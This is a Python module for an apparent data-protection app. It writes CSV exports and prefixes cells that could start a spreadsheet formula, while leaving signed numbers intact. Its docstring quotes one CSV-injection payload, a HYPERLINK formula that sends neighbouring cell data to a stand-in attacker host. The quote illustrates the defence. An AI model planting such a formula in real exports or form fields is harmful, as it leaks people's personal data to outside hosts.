"""The one CSV writer of Kluis: every cell it writes is safe to open in a spreadsheet.

A CSV file written by Kluis (the contacts export, the record of processing, a person's
hand-over package, the rejected rows of an import) is opened in Excel or LibreOffice by staff or
by the person it is about. A cell that begins with ``=``, ``+``, ``-`` or ``@`` is taken as a
formula there, and tab or carriage return can start one too: a name typed into a sign-up form as
``=HYPERLINK("https://evil.example/?"&A2, "click")`` would send the neighbouring cells away
(OWASP, "CSV Injection"; GDPR Art. 32). Such a cell is written with a leading apostrophe, which
spreadsheets show as text and hide.

A number with a sign (``-12``, ``+31 6 1234 5678``) is not a formula and is written as it is,
so phone numbers in E.164 and negative amounts survive a round trip.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_SIGNED_NUMBER = re.compile(r"[+-][0-9][0-9 .]*")


def neutralise(value: str) -> str:
    """``value`` as a cell no spreadsheet will run: prefixed with ``'`` when it could start a
    formula. A lone sign and a signed number are left alone: neither can be a formula."""
    if len(value) < 2 or not value.startswith(FORMULA_START):
        return value
    if _SIGNED_NUMBER.fullmatch(value):
        return value
    return "'" + value


class Writer:
    """``csv.writer`` whose text cells pass through `neutralise`; other cells (numbers) are
    written as ``csv`` writes them."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle, lineterminator="\r\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(c) if isinstance(c, str) else c for c in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
